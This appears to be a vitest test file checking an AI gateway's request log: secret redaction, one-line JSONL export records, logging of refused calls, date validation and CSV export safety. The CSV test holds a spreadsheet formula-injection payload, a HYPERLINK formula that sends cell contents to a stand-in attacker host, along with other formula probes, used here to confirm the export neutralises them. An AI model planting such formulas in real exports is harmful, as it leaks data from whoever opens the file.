import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AdminClient } from '../helpers/admin.js';
import { openAIConfig, startGateway, type RunningGateway } from '../helpers/gateway.js';
import { startOpenAIUpstream, type ScriptedUpstream } from '../upstream/openai-upstream.js';

/** What clients send that the request log keeps: secrets redacted before anything is cut, records that stay one line, refusals logged whatever the query string. */

let upstream: ScriptedUpstream;
let tg: RunningGateway;
let api: AdminClient;

beforeAll(async () => {
  upstream = await startOpenAIUpstream({ chunkDelayMs: 0 });
  tg = await startGateway(openAIConfig(upstream.url));
  api = new AdminClient(tg.url);
});
afterAll(async () => {
  await tg.stop();
  await upstream.close();
});

async function chat(body: Record<string, unknown>, query = ''): Promise<{ status: number; id: string }> {
  const response = await fetch(`${tg.url}/v1/chat/completions${query}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: typeof body === 'string' ? body : JSON.stringify(body) });
  await response.text();
  return { status: response.status, id: response.headers.get('x-request-id') ?? '' };
}

const messages = [{ role: 'user', content: 'hi' }];

describe('the request log', () => {
  it('redacts a secret in the user and metadata tags before cutting them to length, and bearer tokens in any case', async () => {
    const key = 'sk-proj-abcdefghijklmnopqrstuvwxyz012345';
    const { id } = await chat({
      model: 'openai/gpt-4o-mini',
      messages,
      user: `${'x'.repeat(239)} ${key}`,
      metadata: { note: `${'y'.repeat(499)} ${key}`, auth: 'Authorization: BEARER abcdefghijklmnop123', glued: `my_${key}` },
    });
    const entry = await api.logEntry(id);
    const kept = JSON.stringify({ user: entry.user, metadata: entry.metadata });
    expect(kept).not.toContain('sk-proj-abcdefgh');
    expect(kept).not.toContain('abcdefghijklmnop123');
    expect(entry.user).toBe(`${'x'.repeat(239)} [REDACTED]`);
    expect(entry.metadata.glued).toBe('my_[REDACTED]');
  });

  it('writes a JSONL export record on one line even when a tag holds U+2028 or U+2029', async () => {
    const { id } = await chat({ model: 'openai/gpt-4o-mini', messages, user: 'line\u2028separator\u2029paragraph' });
    await api.logEntry(id);
    const text = await (await fetch(`${tg.url}/api/logs/export?format=jsonl`)).text();
    const lines = text.split(/\r\n|\n|\r|\u2028|\u2029/).filter((line) => line.length > 0);
    const records = lines.map((line) => JSON.parse(line) as { id: string; user: string | null });
    expect(records.find((record) => record.id === id)?.user).toBe('line\u2028separator\u2029paragraph');
  });

  it('writes a JSONL export record on one line for every line end a line reader knows, U+0085 (NEL) included', async () => {
    const { id } = await chat({ model: 'openai/gpt-4o-mini', messages, user: 'next\u0085line', metadata: { tag: 'a\u0085b\u2028c' } });
    await api.logEntry(id);
    const text = await (await fetch(`${tg.url}/api/logs/export?format=jsonl`)).text();
    // Python's str.splitlines() ends a line at each of these; JSON.stringify escapes the control characters among them, not NEL.
    const lineEnds = new RegExp(`\r\n|[${['\n', '\r', '\v', '\f', '\x1c', '\x1d', '\x1e', '\u0085', '\u2028', '\u2029'].join('')}]`);
    const lines = text.split(lineEnds).filter((line) => line.length > 0);
    const records = lines.map((line) => JSON.parse(line) as { id: string; user: string | null; metadata: Record<string, string> | null });
    const record = records.find((entry) => entry.id === id);
    expect(record?.user).toBe('next\u0085line');
    expect(record?.metadata?.tag).toBe('a\u0085b\u2028c');
  });

  it('writes no CSV cell a spreadsheet runs as a formula, read with commas or with semicolons (as Excel does in many locales)', async () => {
    const { id } = await chat({
      model: 'openai/gpt-4o-mini',
      messages,
      user: 'csv-probe;=HYPERLINK("http://attacker.example/?"&A1,"open")',
      metadata: { quoted: 'x;"=1+2', tab: 'y;\t=3', nul: '\u0000=4' },
    });
    await api.logEntry(id);
    const { id: nulId } = await chat({ model: 'openai/gpt-4o-mini', messages, user: '\u0000=SUM(1,2)' });
    await api.logEntry(nulId);
    const csv = await (await fetch(`${tg.url}/api/logs/export?format=csv`)).text();
    const rows = csv.split('\r\n');
    const row = rows.find((line) => line.startsWith(id)) as string;
    // Excel in a locale whose list separator is ';' (German, French, ...) splits each line at every ';', quotes or not:
    // no piece may start (after any quotes) with =, +, -, @, tab, CR or NUL.
    for (const cell of row.split(';').slice(1)) expect(cell, cell).not.toMatch(/^"*[=+\-@\t\r\0]/);
    expect(row).toContain(`csv-probe;'=HYPERLINK`);
    // Read with commas (RFC 4180), the cell of a NUL-led user tag starts with the apostrophe too.
    const nulRow = rows.find((line) => line.startsWith(nulId)) as string;
    expect(nulRow).toContain(`,"'\u0000=SUM(1,2)",`);
  });

  it('finds a request under its x-request-id as soon as the client has its answer, in the entry, the list and the export', async () => {
    for (let i = 0; i < 10; i++) {
      const stream = i % 2 === 1;
      const { request_id: id } = stream
        ? await tg.client.chat.completions.create({ model: 'openai/gpt-4o-mini', messages: [{ role: 'user', content: 'hi' }], stream: true }).withResponse().then(async (answer) => {
            for await (const _ of answer.data) void _;
            return answer;
          })
        : await tg.client.chat.completions.create({ model: 'openai/gpt-4o-mini', messages: [{ role: 'user', content: 'hi' }] }).withResponse();
      // No waiting, no retry: the answer is in, so is its record.
      const entry = await api.get(`/api/logs/${id}`);
      expect(entry.status, `${i}: ${entry.text}`).toBe(200);
      expect(entry.body.stream).toBe(stream);
      const { request_id: next } = await tg.client.chat.completions.create({ model: 'openai/gpt-4o-mini', messages: [{ role: 'user', content: 'hi' }] }).withResponse();
      expect((await api.get('/api/logs?limit=1')).body.data[0]?.id, `${i}`).toBe(next);
      const { request_id: last } = await tg.client.chat.completions.create({ model: 'openai/gpt-4o-mini', messages: [{ role: 'user', content: 'hi' }] }).withResponse();
      const exported = (await (await fetch(`${tg.url}/api/logs/export?format=jsonl`)).text()).split('\n', 1)[0] as string;
      expect(JSON.parse(exported).id, `${i}`).toBe(last);
    }
  });

  it('logs a refused call whatever its query string says, with the model from the body only', async () => {
    const broken = await fetch(`${tg.url}/v1/chat/completions?x=/models/%ZZ`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{bad' });
    await broken.text();
    expect(broken.status).toBe(400);
    const entry = await api.logEntry(broken.headers.get('x-request-id') ?? '');
    expect(entry.status).toBe(400);
    const named = await chat({ model: 'openai/gpt-4o-mini', messages: 'not a list' }, '?x=/models/fromquery');
    expect(named.status).toBe(400);
    expect((await api.logEntry(named.id)).model).toBe('openai/gpt-4o-mini');
  });

  it("logs a known key's refused call (a body that is not JSON, an invalid request) under its key and team, on every mount", async () => {
    const team = await api.request('POST', '/api/teams', { name: 'refused-team' });
    const created = await api.request('POST', '/api/keys', { name: 'refused-key', team: team.body.id });
    expect(created.status).toBe(201);
    const secret = created.body.key as string;
    const calls: Array<{ url: string; headers: Record<string, string>; body: string }> = [
      { url: '/v1/chat/completions', headers: { authorization: `Bearer ${secret}` }, body: '{bad' },
      { url: '/v1/chat/completions', headers: { authorization: `Bearer ${secret}` }, body: JSON.stringify({ model: 'openai/gpt-4o-mini', messages: 'not a list' }) },
      { url: '/anthropic/v1/messages', headers: { 'x-api-key': secret }, body: '{bad' },
      { url: '/genai/v1beta/models/gemini-2.0-flash:generateContent', headers: { 'x-goog-api-key': secret }, body: '{bad' },
      { url: '/litellm/chat/completions', headers: { 'x-litellm-api-key': secret, authorization: 'Bearer placeholder' }, body: '{bad' },
    ];
    for (const call of calls) {
      const response = await fetch(`${tg.url}${call.url}`, { method: 'POST', headers: { 'content-type': 'application/json', ...call.headers }, body: call.body });
      await response.text();
      expect(response.status, call.url).toBe(400);
      const entry = await api.logEntry(response.headers.get('x-request-id') ?? '');
      expect([entry.key_id, entry.team_id], call.url).toEqual([created.body.id, team.body.id]);
    }
    // A secret that names no key stays an anonymous refusal.
    const unknown = await fetch(`${tg.url}/v1/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer tg-not-a-key' }, body: '{bad' });
    await unknown.text();
    expect((await api.logEntry(unknown.headers.get('x-request-id') ?? '')).key_id).toBeNull();
  });

  it('refuses a date that does not exist instead of reading it as another day', async () => {
    for (const path of ['/api/logs?from=2026-02-30', '/api/usage?from=2026-02-30T00:00:00Z', '/api/logs?to=2026-13-01']) {
      const answer = await api.get(path);
      expect(answer.status, path).toBe(400);
      expect(answer.body.error.code, path).toBe('invalid_query');
    }
    expect((await api.get('/api/logs?from=2028-02-29')).status).toBe(200);
  });

  it('answers a HEAD of an export with its headers, without reading the log', async () => {
    const governance = tg.gateway.governance;
    const original = governance.requestLogPage.bind(governance);
    let pagesRead = 0;
    governance.requestLogPage = (query) => {
      pagesRead++;
      return original(query);
    };
    try {
      const head = await fetch(`${tg.url}/api/logs/export?format=csv`, { method: 'HEAD' });
      expect(head.status).toBe(200);
      expect(head.headers.get('content-type')).toContain('text/csv');
      expect(await head.text()).toBe('');
      expect(pagesRead).toBe(0);
      await (await fetch(`${tg.url}/api/logs/export?format=csv`)).text();
      expect(pagesRead).toBeGreaterThan(0);
    } finally {
      governance.requestLogPage = original;
    }
  });
});
